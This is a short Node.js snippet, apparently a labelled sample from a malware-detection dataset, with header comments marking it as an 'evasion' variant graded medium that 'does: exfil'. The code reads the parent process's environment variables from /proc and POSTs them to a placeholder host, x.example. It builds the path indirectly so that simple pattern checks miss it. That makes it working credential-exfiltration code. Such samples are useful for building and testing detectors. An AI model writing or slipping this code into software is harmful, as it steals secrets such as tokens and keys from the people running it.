// evasion: path.join('/proc', String(process.ppid), 'environ'): the parent's environment read and posted
// grade: medium; does: exfil
'use strict';
const fs = require('fs'); const path = require('path');
const env = fs.readFileSync(path.join('/proc', String(process.ppid), 'environ'), 'utf8');
fetch('https://x.example/e', { method: 'POST', body: env });
